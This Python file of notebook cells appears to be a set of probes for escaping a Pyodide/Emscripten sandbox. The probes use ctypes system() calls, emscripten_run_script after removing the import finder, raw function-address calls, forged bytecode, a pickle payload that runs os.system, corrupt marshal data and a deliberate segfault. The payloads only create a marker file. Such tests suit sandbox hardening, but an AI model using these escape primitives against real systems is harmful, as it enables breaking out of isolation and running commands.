# %% ctypes
import ctypes
ctypes.CDLL(None).system(b"touch NEW")
# %% ctypes, without the finder
import sys
sys.meta_path.pop(0)
import ctypes
ctypes.CDLL(None).emscripten_run_script(b"require('fs').writeFileSync('NEW','')")
# %% _ctypes, its dlsym
import sys
sys.meta_path.pop(0)
import _ctypes
print(_ctypes.dlsym(0, "emscripten_run_script"), "ESCAPED")
# %% _ctypes, a call by address
import sys
sys.meta_path.pop(0)
import _ctypes
for address in range(1, 40):
    try:
        _ctypes.call_function(address, ())
    except Exception as error:
        print(error)
# %% code object with wild bytecode
def f(): pass
f.__code__ = f.__code__.replace(co_code=bytes([255, 3] * 40), co_stacksize=1)
f()
# %% code object that reads past its constants
def f(): pass
code = f.__code__
f.__code__ = code.replace(co_code=bytes([code.co_code[0], 0]) + bytes([83, 255, 100, 255] * 30), co_consts=())
f()
# %% segfault on purpose
import faulthandler
faulthandler._sigsegv()
# %% wild pointer through a capsule
import datetime
capsule = datetime.datetime_CAPI
print(repr(capsule))
import pickle
pickle.loads(b"cos\nsystem\n(S'touch NEW'\ntR.")
# %% marshal
import marshal, types
types.FunctionType(marshal.loads(b"\xe3" + bytes(60)), {})()
# %% corrupt a list through sorting
class Bad:
    def __lt__(self, other):
        a.clear()
        return True
a = [Bad() for _ in range(100)]
a.sort()
